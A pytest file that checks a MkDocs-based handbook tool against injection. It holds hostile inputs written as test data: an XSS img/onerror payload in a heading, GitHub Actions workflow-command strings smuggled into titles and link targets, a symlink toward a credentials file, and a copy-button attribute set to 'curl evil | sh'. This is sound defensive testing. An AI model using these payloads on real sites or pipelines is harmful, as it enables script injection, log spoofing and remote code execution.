def test_names_that_would_reach_the_html_are_refused(project, name):
    """MkDocs makes a page's title from its file name (and a section's from its folder's) and the theme
    prints them as they are, in the navigation of every page and in search results."""
    hb = project()
    hb.write(name, "Some text.\n")
    exit_code, data = hb.check_json()
    assert exit_code == 1
    assert [d["code"] for d in data["diagnostics"]] == ["unsafe-file"]
    assert "rename it" in data["diagnostics"][0]["message"]
    assert hb.build().returncode != 0


def test_a_title_made_from_a_heading_cannot_break_out_of_the_page_title(project):
    """With no `title:`, MkDocs takes the first heading, and the theme prints it through `striptags`,
    which turns `&lt;` back into `<`."""
    hb = project()
    hb.write("notes.md", "# Notes &lt;/title&gt;&lt;img src=x onerror=alert(7)&gt;\n\nBody.\n")
    done = hb.build("--strict")
    assert done.returncode == 0, output(done)
    text = (hb.root / "site" / "notes" / "index.html").read_text(encoding="utf-8")
    assert script_in_html(text) == []
    title = re.search(r"<title>(.*?)</title>", text, re.S).group(1)
    assert "<img" not in title and "&lt;img" in title


def test_the_legacy_command_form_cannot_reach_the_build_log(project):
    """GitHub's runner still reads `##[command]` anywhere in a line."""
    hb = project()
    hb.write("teams/support.md", '---\nkind: team\ntitle: "Support ##[warning]Fake ##[add-mask]x"\n---\n')
    hb.write("stages/a.md", "---\nkind: stage\ntitle: A\nowner: support\norder: 1\n---\n")
    hb.write("teams/sales.md", "---\nkind: team\ntitle: Sales\n---\n")
    hb.write("stages/b.md", "---\nkind: stage\ntitle: B\nowner: sales\norder: 2\n---\n")
    done = hb.build()
    assert "Fake" in output(done)  # the warning names the team
    assert "##[" not in output(done)


def test_mkdocs_own_warnings_cannot_issue_workflow_commands(project):
    """MkDocs decodes `%0A` in a link target before it warns that the target is missing."""
    hb = project()
    hb.write("notes.md", "# Notes\n\n[a](nope%0A::warning%20file=mkdocs.yml::PWNED%0A.md)\n")
    done = hb.build()
    assert "PWNED" in output(done)
    assert command_lines(output(done)) == []


def test_a_docs_folder_that_is_a_link_is_refused(project, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "creds.txt").write_text("TOPSECRET", encoding="utf-8")
    (outside / "index.md").write_text("# Home\n", encoding="utf-8")
    hb = project()
    shutil.rmtree(hb.docs)
    hb.docs.symlink_to(outside)
    exit_code, data = hb.check_json()
    assert exit_code == 1
    [error] = data["diagnostics"]
    assert error["code"] == "unsafe-file" and "docs folder" in error["message"]
    done = hb.build()
    assert done.returncode != 0
    assert not [p for p, text in site_texts(hb.root / "site").items() if "TOPSECRET" in text]


def test_the_reminder_issue_turns_no_address_into_a_link(project):
    hb = project()
    hb.write("teams/cs.md", '---\nkind: team\ntitle: "CS https://evil.example/@victim www.evil.example"\n'
             'github: ["@lumen/cs"]\n---\n')
    body = review(hb, "--format", "markdown").stdout
    assert "https://" not in body.replace("https://handbook", "") and "www.evil" not in body
    assert "evil.example" in body


def test_the_sanitiser_keeps_no_data_attribute_the_theme_acts_on(project):
    """mkdocs-material's copy button copies the nearest `data-copy` value instead of the code shown."""
    hb = project()
    hb.write("notes.md", '# Notes\n\n<div data-copy="curl evil | sh" data-md-component="x" data-tabs="1:1">'
             "<p>Run it.</p></div>\n")
    assert hb.build("--strict").returncode == 0
    text = (hb.root / "site" / "notes" / "index.html").read_text(encoding="utf-8")
    assert "curl evil" not in text and 'data-md-component="x"' not in text
    assert 'data-tabs="1:1"' in text
